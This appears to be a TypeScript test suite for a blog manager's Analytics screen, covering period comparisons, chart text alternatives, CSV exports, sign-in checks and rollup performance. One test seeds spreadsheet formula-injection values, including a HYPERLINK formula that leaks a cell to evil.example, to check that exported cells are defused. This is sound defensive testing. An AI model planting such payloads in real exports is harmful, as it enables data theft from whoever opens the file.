/**
 * The Analytics screen in the manager: the figures it shows from the rollups, beside the previous period's, the
 * chart's text alternative, the CSV downloads (the same rows) and the sign-in that guards both.
 */
import { env } from 'cloudflare:test';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { addDays, OTHER_KEY, ROLLUP_DIMS, ROW_LIMIT } from '../../routes/analytics/data';
import { OTHER_LABEL } from '../../routes/analytics/rollups';
import { REPORT_SQL, readReport } from '../../routes/analytics/report';
import { BOUNDED_DIMS, COMPACT_SQL, KEYS_PER_DAY } from '../../routes/analytics/compact';
import { answer as supabaseAuth, token } from './auth-standin';
import { decode, ORIGIN, textOf } from './helpers';
import { dispatch, runCron } from './leads-helpers';
import { SESSION_COOKIE } from '../../routes/sign-in/routes';

const today = new Date().toISOString().slice(0, 10);
let session: string;

beforeEach(async () => {
  vi.spyOn(globalThis, 'fetch').mockImplementation(async (input, init) => supabaseAuth(new Request(input as RequestInfo, init)));
  session = `${SESSION_COOKIE}=${await token()}`;
  await env.DB.prepare('DELETE FROM analytics_daily').run();
});
afterEach(() => vi.restoreAllMocks());

function get(path: string, cookie: string | null = session) {
  const headers: Record<string, string> = { 'sec-fetch-site': 'same-origin' };
  if (cookie) headers.cookie = cookie;
  return dispatch(new Request(ORIGIN + path, { headers, redirect: 'manual' }));
}

async function seed(rows: [dim: string, day: string, key: string, metric: string, value: number][]) {
  for (let i = 0; i < rows.length; i += 20) {
    const chunk = rows.slice(i, i + 20);
    await env.DB.prepare(`INSERT INTO analytics_daily (dim, day, key, metric, value) VALUES ${chunk.map(() => '(?, ?, ?, ?, ?)').join(', ')}`)
      .bind(...chunk.flat())
      .run();
  }
}

/** This week and the week before, for the default 7-day view. */
async function seedTwoWeeks() {
  const thisWeek = addDays(today, -2);
  const lastWeek = addDays(today, -9);
  await seed([
    ['total', thisWeek, '', 'visitors', 120],
    ['total', thisWeek, '', 'views', 300],
    ['total', thisWeek, '', 'conversions', 9],
    ['total', thisWeek, '', 'converters', 6],
    ['total', lastWeek, '', 'visitors', 100],
    ['total', lastWeek, '', 'views', 310],
    ['page', thisWeek, '/time-poor-ceo', 'views', 80],
    ['page', lastWeek, '/time-poor-ceo', 'views', 40],
    ['landing', thisWeek, '/time-poor-ceo', 'visitors', 50],
    ['landing', thisWeek, '/time-poor-ceo', 'converters', 5],
    ['landing', thisWeek, '/time-poor-ceo', 'conversions', 7],
    ['source', thisWeek, 'linkedin / social', 'visitors', 30],
    ['campaign', thisWeek, 'spring', 'visitors', 30],
    ['country', thisWeek, 'GB', 'visitors', 90],
    ['device', thisWeek, 'mobile', 'visitors', 70],
    ['cta', thisWeek, "booking\tcalendar\tLet's Have a Natter\thero", 'conversions', 4],
    ['cta', thisWeek, 'checkout\texecutive\tGet Access\tpricing', 'conversions', 2],
    ['vitals', thisWeek, '/', 'LCP:2000', 3],
    ['vitals', thisWeek, '/', 'LCP:4000', 1],
    ['404', thisWeek, '/old-page', 'views', 12],
  ]);
}

describe('the Analytics screen', () => {
  it('shows each figure beside the previous period’s, up or down as a percentage', async () => {
    await seedTwoWeeks();
    const res = await get('/blog/manage/analytics?range=7d');
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const text = textOf(await res.text());
    expect(text).toContain('Visitors 120 was 100 · up 20%');
    expect(text).toContain('Page views 300 was 310 · down 3%');
    expect(text).toContain('Conversion rate 5.0% was 0.0% · new');
    expect(text).toContain('/time-poor-ceo 80 was 40 · up 100%');
    expect(text).toContain('/time-poor-ceo 50 was 0 · new 5 was 0 · new 10.0% was –');
    expect(text).toContain('linkedin / social 30');
    expect(text).toContain('United Kingdom 90');
    expect(text).toContain('Mobile 70');
    expect(text).toContain("Booking calendar Let's Have a Natter Section “hero” 4");
    expect(text).toContain('Checkout: Executive Partner Get Access Section “pricing” 2');
    expect(text).toContain('/ 4 was 0 · new 2,000 ms');
    expect(text).toContain('/old-page 12');
  });

  it('names the clicks whose words are no button of the site’s as such, not as their words', async () => {
    await seed([['cta', addDays(today, -1), `booking\tcalendar\t${OTHER_LABEL}\thero`, 'conversions', 3]]);
    const text = textOf(await (await get('/blog/manage/analytics?range=7d')).text());
    expect(text).toContain('Booking calendar Other words (a link made elsewhere) Section “hero” 3');
  });

  it('draws the daily figures as an SVG image with a text alternative, and the same figures in a table', async () => {
    await seedTwoWeeks();
    const html = await (await get('/blog/manage/analytics?range=7d')).text();
    expect(html).toMatch(/<svg[^>]*role="img"[^>]*aria-labelledby="daily-chart-title daily-chart-desc"/);
    const desc = decode(html.match(/<desc id="daily-chart-desc">([^<]*)<\/desc>/)![1]!);
    expect(desc).toContain(`from ${addDays(today, -6)} to ${today}: 120 visitors and 300 page views in all`);
    expect(textOf(html)).toContain(`${addDays(today, -2)} 120 was 100 · up 20% 300 was 310 · down 3%`);
    expect(html).not.toMatch(/<script[^>]+chart/i);
  });

  it('offers every table as CSV with the same rows, each figure with its previous value and change', async () => {
    await seedTwoWeeks();
    const html = await (await get('/blog/manage/analytics?range=7d')).text();
    const links = [...html.matchAll(/href="(\/blog\/manage\/analytics\/[a-z]+\.csv\?[^"]+)"/g)].map((m) => decode(m[1]!));
    expect(links.length).toBe(13);
    const pages = links.find((l) => l.includes('/pages.csv'))!;
    const res = await get(pages);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="analytics-pages-\d{4}-\d{2}-\d{2}-to-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(await res.text()).toBe(
      [
        '"Page","Page views","Page views (previous period)","Page views (change)","Conversions on the page","Conversions on the page (previous period)","Conversions on the page (change)",' +
          '"Booked calls","Booked calls (previous period)","Booked calls (change)","Cancelled calls","Cancelled calls (previous period)","Cancelled calls (change)",' +
          '"Paid plans","Paid plans (previous period)","Paid plans (change)","Net revenue (GBP)","Net revenue (GBP) (previous period)","Net revenue (GBP) (change)",' +
          '"Refunds (GBP)","Refunds (GBP) (previous period)","Refunds (GBP) (change)",' +
          '"Net revenue (USD)","Net revenue (USD) (previous period)","Net revenue (USD) (change)","Refunds (USD)","Refunds (USD) (previous period)","Refunds (USD) (change)"',
        '"/time-poor-ceo","80","40","up 100%","0","0","no change","0","0","no change","0","0","no change","0","0","no change","£0","£0","no change","£0","£0","no change","$0","$0","no change","$0","$0","no change"',
        '',
      ].join('\r\n'),
    );
    const cta = await (await get(links.find((l) => l.includes('/cta.csv'))!)).text();
    expect(cta.split('\r\n')[1]).toBe('"Booking calendar","Let\'s Have a Natter","Section “hero”","4","0","new","0","0","no change","0","0","no change","0","0","no change","£0","£0","no change","£0","£0","no change","$0","$0","no change","$0","$0","no change"');
  });

  it('defuses every cell a spreadsheet could run as a formula, a minus and a digit included', async () => {
    const day = addDays(today, -1);
    const evil = '-1+HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    await seed([
      ['cta', day, `booking\tcalendar\t${evil}\thero`, 'conversions', 3],
      ['source', day, '-1+hyperlink(1)', 'visitors', 2],
      ['source', day, '\tcmd', 'visitors', 1],
      ['campaign', day, '@sum(1)', 'visitors', 1],
    ]);
    const csv = async (table: string) => (await (await get(`/blog/manage/analytics/${table}.csv?range=7d`)).text()).split('\r\n');
    const cta = await csv('cta');
    expect(cta[1]).toBe(`"Booking calendar","'${evil.replace(/"/g, '""')}","Section “hero”","3","0","new","0","0","no change","0","0","no change","0","0","no change","£0","£0","no change","£0","£0","no change","$0","$0","no change","$0","$0","no change"`);
    const sources = await csv('sources');
    expect(sources[1]!.startsWith(`"'-1+hyperlink(1)","2",`)).toBe(true);
    expect(sources[2]!.startsWith(`"'\tcmd","1",`)).toBe(true);
    expect((await csv('campaigns'))[1]!.startsWith(`"'@sum(1)",`)).toBe(true);
    for (const line of [...cta, ...sources].filter(Boolean)) {
      for (const cell of line.match(/"(?:[^"]|"")*"/g)!) expect(cell, line).not.toMatch(/^"[=+\-@\t\r]/);
    }
  });

  it('refuses the screen and the CSV without a session', async () => {
    for (const path of ['/blog/manage/analytics', '/blog/manage/analytics/pages.csv?range=7d']) {
      const res = await get(path, null);
      expect(res.status).toBe(303);
      expect(res.headers.get('location')).toMatch(/^\/auth/);
      expect(await res.text()).not.toContain('time-poor-ceo');
    }
  });

  it('answers a bad period or table with a 4xx that says what to fix', async () => {
    const cases: [string, number, string][] = [
      ['/blog/manage/analytics?range=forever', 400, 'Choose a period from the list'],
      ['/blog/manage/analytics?range=custom&from=2026-02-30&to=2026-03-01', 400, 'YYYY-MM-DD'],
      ['/blog/manage/analytics?range=custom&from=2026-05-01&to=2026-04-01', 400, 'on or before the end date'],
      ['/blog/manage/analytics?range=custom&from=2020-01-01&to=2026-01-01', 400, 'at most 800 days'],
      ['/blog/manage/analytics/everything.csv?range=7d', 404, 'no such table'],
      ['/blog/manage/analytics/pages.csv?range=custom&from=x&to=y', 400, 'YYYY-MM-DD'],
    ];
    for (const [path, status, message] of cases) {
      const res = await get(path);
      expect(res.status, path).toBe(status);
      expect(textOf(await res.text()), path).toContain(message);
    }
  });

  it('links the screen from the manager bar', async () => {
    const html = await (await get('/blog/manage/leads')).text();
    expect(html).toMatch(/<a href="\/blog\/manage\/analytics"[^>]*>Analytics<\/a>/);
  });
});

/** `n` rows of one dimension and day, made in SQL: a flood is quicker to write that way than row by row. */
async function flood(dim: string, days: number, keysPerDay: number, metric = 'views', prefix = '/junk-') {
  await env.DB.prepare(
    `WITH RECURSIVE d(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM d WHERE n < ?2), k(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM k WHERE n < ?3)
     INSERT INTO analytics_daily (dim, day, key, metric, value) SELECT ?1, date(?4, '-' || d.n || ' days'), ?5 || d.n || '-' || k.n, ?6, 1 FROM d, k`,
  )
    .bind(dim, days - 1, keysPerDay - 1, today, prefix, metric)
    .run();
}

const countRows = async (dim: string, day: string) =>
  (await env.DB.prepare('SELECT COUNT(*) AS n, SUM(value) AS total FROM analytics_daily WHERE dim = ?1 AND day = ?2').bind(dim, day).first<{ n: number; total: number }>())!;

describe('bounded rollups', () => {
  it('keeps each day to its top keys per dimension, with one other row carrying the rest of the count', async () => {
    await seed([
      ['404', today, '/old-pricing-page', 'views', 40],
      ['source', today, 'linkedin.com', 'visitors', 30],
      ['source', today, 'linkedin.com', 'conversions', 2],
      ['page', today, '/services', 'views', 50],
    ]);
    await flood('404', 1, 2_500);
    await flood('source', 1, 900, 'visitors', 'junk-');
    await runCron();
    const missing = await countRows('404', today);
    expect(missing).toEqual({ n: KEYS_PER_DAY + 1, total: 2_540 });
    const other = (metric: string, dim: string) => env.DB.prepare('SELECT value FROM analytics_daily WHERE dim = ?1 AND day = ?2 AND key = ?3 AND metric = ?4').bind(dim, today, OTHER_KEY, metric).first<{ value: number }>();
    expect(await other('views', '404')).toEqual({ value: 2_500 - (KEYS_PER_DAY - 1) });
    expect(await countRows('source', today)).toEqual({ n: KEYS_PER_DAY + 2, total: 932 });
    expect(await other('visitors', 'source')).toEqual({ value: 900 - (KEYS_PER_DAY - 1) });
    // The real keys with the largest figures keep their own rows; a second run changes nothing.
    const kept = await env.DB.prepare("SELECT key, metric, value FROM analytics_daily WHERE key IN ('/old-pricing-page', 'linkedin.com', '/services') ORDER BY key, metric").all();
    expect(kept.results).toEqual([
      { key: '/old-pricing-page', metric: 'views', value: 40 },
      { key: '/services', metric: 'views', value: 50 },
      { key: 'linkedin.com', metric: 'conversions', value: 2 },
      { key: 'linkedin.com', metric: 'visitors', value: 30 },
    ]);
    await runCron();
    expect(await countRows('404', today)).toEqual(missing);
  });

  it('shows the long tail as one row, and the overview’s 404s count every one', async () => {
    await seed([['404', today, '/old-pricing-page', 'views', 40]]);
    await flood('404', 1, 500);
    await runCron();
    const text = textOf(await (await get('/blog/manage/analytics?range=7d')).text());
    expect(text).toContain('Pages not found (404) 540 was 0');
    expect(text).toContain(`All others (each too small to keep apart that day) ${(500 - KEYS_PER_DAY + 1).toLocaleString('en-GB')}`);
    expect(text).toContain('/old-pricing-page 40');
    expect(text).toContain(`${KEYS_PER_DAY + 1 - ROW_LIMIT} more rows with smaller figures are not shown.`);
  });

  it('folds with two range reads of the primary key', async () => {
    for (const sql of Object.values(COMPACT_SQL)) {
      const plan = await env.DB.prepare(`EXPLAIN QUERY PLAN ${sql}`).bind(today, OTHER_KEY, ...BOUNDED_DIMS).all<{ detail: string }>();
      const details = plan.results.map((r) => r.detail).join(' | ');
      expect(details, sql).toMatch(/SEARCH (analytics_daily|d) USING PRIMARY KEY/);
      expect(details, sql).not.toMatch(/SCAN (analytics_daily|d)\b(?! USING)/);
    }
  });
});

/** Two years at 10,000 views a day over ten pages; the 12-month period and the year before it. */
async function seedTwoYears() {
  const rows: [string, string, string, string, number][] = [];
  for (let d = 0; d < 730; d++) {
    const day = addDays(today, -d);
    rows.push(['total', day, '', 'views', 10_000], ['total', day, '', 'visitors', 3_000]);
    for (let p = 0; p < 10; p++) rows.push(['page', day, `/page-${p}`, 'views', 1_000]);
  }
  await env.DB.batch(
    Array.from({ length: Math.ceil(rows.length / 20) }, (_, i) => rows.slice(i * 20, i * 20 + 20)).map((chunk) =>
      env.DB.prepare(`INSERT INTO analytics_daily (dim, day, key, metric, value) VALUES ${chunk.map(() => '(?, ?, ?, ?, ?)').join(', ')}`).bind(...chunk.flat()),
    ),
  );
  return { name: '12m' as const, from: addDays(today, -364), to: today, days: 365, previousFrom: addDays(today, -729), previousTo: addDays(today, -365) };
}

describe('reading the rollups', () => {
  it('reads a range of the primary key, never a scan of the table', async () => {
    for (const sql of Object.values(REPORT_SQL)) {
      const values = ["'2025-01-01'", "'2026-01-01'", "'2025-07-01'", ...ROLLUP_DIMS.map((d) => `'${d}'`)];
      const bound = sql.replace(/\?(\d+)/g, (_, n) => values[Number(n) - 1]!);
      const plan = await env.DB.prepare(`EXPLAIN QUERY PLAN ${bound}`).all<{ detail: string }>();
      const details = plan.results.map((r) => r.detail).join(' | ');
      expect(details, sql).toMatch(/SEARCH analytics_daily USING PRIMARY KEY/);
      expect(details, sql).not.toMatch(/SCAN analytics_daily/);
    }
  });

  it('reads a year of rollups at 10,000 views a day, with the previous year, in one round trip', async () => {
    const period = await seedTwoYears();
    const data = await readReport(env.DB, period);
    const total = data.sums.find((s) => s.dim === 'total' && s.metric === 'views')!;
    expect(total).toMatchObject({ current: 3_650_000, previous: 3_650_000 });
    expect(data.sums.filter((s) => s.dim === 'page')).toHaveLength(10);
    expect(data.daily.length).toBe(730 * 2);
  });

  it('reads a year at 10,000 views a day under a daily flood of junk 404 paths as fast, and only the top rows of each table', { timeout: 60_000 }, async () => {
    const period = await seedTwoYears();
    const timed = async () => {
      const started = performance.now();
      const data = await readReport(env.DB, period);
      return { data, ms: performance.now() - started };
    };
    const fastest = async () => {
      const runs = [await timed(), await timed(), await timed()];
      return { data: runs[0]!.data, ms: Math.min(...runs.map((r) => r.ms)) };
    };
    const quiet = await fastest();
    // Yesterday's flood of 5,000 junk paths, as the cron leaves it: the top keys and one other row.
    await flood('404', 1, 5_000);
    await runCron();
    const oneFlood = await fastest();
    // Loose bounds: two CPUs shared with other work make single timings noisy.
    expect(oneFlood.ms).toBeLessThan(quiet.ms * 3 + 150);
    // The worst case: every day of both years flooded, a different junk path in every kept slot.
    await flood('404', 730, KEYS_PER_DAY, 'views', '/every-day-');
    const everyDay = await fastest();
    const missing = everyDay.data.sums.filter((s) => s.dim === '404');
    expect(missing).toHaveLength(ROW_LIMIT);
    expect(missing[0]!.keys).toBeGreaterThan(730 * KEYS_PER_DAY);
    expect(everyDay.data.missing).toEqual({ current: 365 * KEYS_PER_DAY + 5_000, previous: 365 * KEYS_PER_DAY });
    expect(everyDay.data.sums.filter((s) => s.dim === 'page')).toHaveLength(10);
    console.log(`a year of rollups: ${quiet.ms.toFixed(0)} ms; after a flood of 5,000 junk paths: ${oneFlood.ms.toFixed(0)} ms; every day flooded: ${everyDay.ms.toFixed(0)} ms`);
    expect(everyDay.ms).toBeLessThan(1_500);
  });
});

// Click to revenue: booked calls, cancellations, paid plans and revenue per currency beside visits and clicks, by
// landing page (articles among them), source, campaign, page and button, with the rates from visit to click to
// booked call to payment, the previous period beside each, and CSVs that say the same.
/** RFC 4180, as the screen writes it: quoted cells may hold commas and doubled quotes. */
function parseCsv(text: string): string[][] {
  return text
    .trim()
    .split('\r\n')
    .map((line) => [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"')));
}

const CTA = 'checkout\tstarter\tGet Started\trecommended-plan';

async function seedRevenue() {
  const day = addDays(today, -1);
  const before = addDays(today, -8);
  const rows: [string, string, string, string, number][] = [];
  for (const [dim, key] of [['total', ''], ['landing', '/fractional-chief-of-staff'], ['source', 'newsletter'], ['campaign', '=march']] as const) {
    rows.push([dim, day, key, 'visitors', 20], [dim, day, key, 'clicks', 4], [dim, day, key, 'calls', 2], [dim, day, key, 'cancellations', 1]);
    rows.push([dim, day, key, 'payments', 1], [dim, day, key, 'revenue:GBP', 120000], [dim, day, key, 'revenue:EUR', 99950]);
    rows.push([dim, before, key, 'visitors', 10], [dim, before, key, 'payments', 1], [dim, before, key, 'revenue:GBP', 90000]);
    rows.push([dim, day, key, 'refunds', 2], [dim, day, key, 'refunded:GBP', 30000], [dim, before, key, 'refunds', 1], [dim, before, key, 'refunded:GBP', 90000]);
  }
  rows.push(['page', day, '/fractional-chief-of-staff', 'payments', 1], ['page', day, '/fractional-chief-of-staff', 'revenue:GBP', 120000]);
  rows.push(['page', day, '/fractional-chief-of-staff', 'refunded:GBP', 30000]);
  rows.push(['cta', day, CTA, 'conversions', 4], ['cta', day, CTA, 'payments', 1], ['cta', day, CTA, 'revenue:GBP', 120000], ['cta', day, CTA, 'refunded:GBP', 30000]);
  rows.push(['source', day, '(not attributed)', 'refunds', 1], ['source', day, '(not attributed)', 'refunded:SEK', 5000]);
  rows.push(['source', day, '(not attributed)', 'payments', 1], ['source', day, '(not attributed)', 'revenue:USD', 150000]);
  await seed(rows);
}

describe('click to revenue on the Analytics screen', () => {
  it('shows calls, cancellations, paid plans, and revenue net of refunds with the refunds beside it per currency, never converted, with the funnel’s rates and the previous period', async () => {
    await seedRevenue();
    const text = textOf(await (await get('/blog/manage/analytics?range=7d')).text());
    expect(text).toContain('Booked calls 2 was 0 · new');
    expect(text).toContain('Paid plans 1 was 1 · no change');
    expect(text).toContain('Net revenue (GBP) £900 was £0 · new');
    expect(text).toContain('Refunds (GBP) £300 was £900 · down 67%');
    expect(text).toContain('Net revenue (EUR) €999.50 was €0 · new');
    expect(text).toContain('Refunds (EUR) €0 was €0 · no change');
    // A refund in a currency no payment of the period was made in still shows, as a negative net revenue.
    expect(text).toMatch(/\$1,500 was \$0 · new \$0 was \$0 · no change €0 was €0 · no change €0 was €0 · no change -kr\s50 was kr\s0 · new kr\s50 was kr\s0 · new/);
    expect(text).toContain('Visit to click 20.0% was 0.0%');
    expect(text).toContain('Click to booked call 50.0% was –');
    expect(text).toContain('Booked call to payment 50.0% was –');
    // The landing page (an article here) with what its visitors went on to do, and the payment not attributed.
    expect(text).toContain(
      '/fractional-chief-of-staff 20 was 10 · up 100% 0 was 0 · no change 0.0% was 0.0% · no change 0 was 0 · no change 4 was 0 · new 2 was 0 · new 1 was 0 · new 1 was 1 · no change £900 was £0 · new £300 was £900 · down 67% $0 was $0 · no change $0 was $0 · no change',
    );
    expect(text).toContain('Not attributed 0 was 0 · no change 0 was 0 · no change – was – 0 was 0 · no change 0 was 0 · no change 0 was 0 · no change 0 was 0 · no change 1 was 0 · new £0 was £0 · no change £0 was £0 · no change $1,500 was $0 · new $0 was $0 · no change');
    expect(text).toMatch(/Checkout: Starter Sidekick Get Started Section “recommended-plan” 4 was 0 · new 0 was 0 · no change 0 was 0 · no change 1 was 0 · new £900 was £0 · new £300 was £0 · new/);
  });

  it('downloads the same figures as CSV, a campaign beginning with = defused', async () => {
    await seedRevenue();
    const range = `range=custom&from=${addDays(today, -6)}&to=${today}`;
    const csv = await (await get(`/blog/manage/analytics/campaigns.csv?${range}`)).text();
    const [header, row] = parseCsv(csv);
    const cell = (label: string) => row![header!.indexOf(label)];
    expect(row![0]).toBe("'=march");
    expect(cell('Paid plans')).toBe('1');
    expect(cell('Paid plans (previous period)')).toBe('1');
    expect(cell('Net revenue (GBP)')).toBe('£900');
    expect(cell('Net revenue (GBP) (previous period)')).toBe('£0');
    expect(cell('Net revenue (GBP) (change)')).toBe('new');
    expect(cell('Refunds (GBP)')).toBe('£300');
    expect(cell('Refunds (GBP) (previous period)')).toBe('£900');
    expect(cell('Refunds (GBP) (change)')).toBe('down 67%');
    expect(cell('Net revenue (EUR)')).toBe('€999.50');
    expect(cell('Booked calls')).toBe('2');
    expect(cell('Cancelled calls')).toBe('1');
    expect(cell('Visit to click')).toBe('20.0%');
    const [sourceHeader, ...sources] = parseCsv(await (await get(`/blog/manage/analytics/sources.csv?${range}`)).text());
    const unattributed = sources.find((r) => r[0] === 'Not attributed')!;
    expect(unattributed[sourceHeader!.indexOf('Net revenue (USD)')]).toBe('$1,500');
    expect([unattributed[sourceHeader!.indexOf('Net revenue (SEK)')], unattributed[sourceHeader!.indexOf('Refunds (SEK)')]].map((v) => v!.replace(/\s/g, ' '))).toEqual(["'-kr 50", 'kr 50']);
    const [pageHeader, ...pages] = parseCsv(await (await get(`/blog/manage/analytics/pages.csv?${range}`)).text());
    const page = pages.find((r) => r[0] === '/fractional-chief-of-staff')!;
    expect([page[pageHeader!.indexOf('Net revenue (GBP)')], page[pageHeader!.indexOf('Refunds (GBP)')]]).toEqual(['£900', '£300']);
    const [overviewHeader, ...overview] = parseCsv(await (await get(`/blog/manage/analytics/overview.csv?${range}`)).text());
    const value = (figure: string) => overview.find((r) => r[0] === figure)![overviewHeader!.indexOf('This period')];
    expect([value('Net revenue (GBP)'), value('Refunds (GBP)')]).toEqual(['£900', '£300']);
  });
});
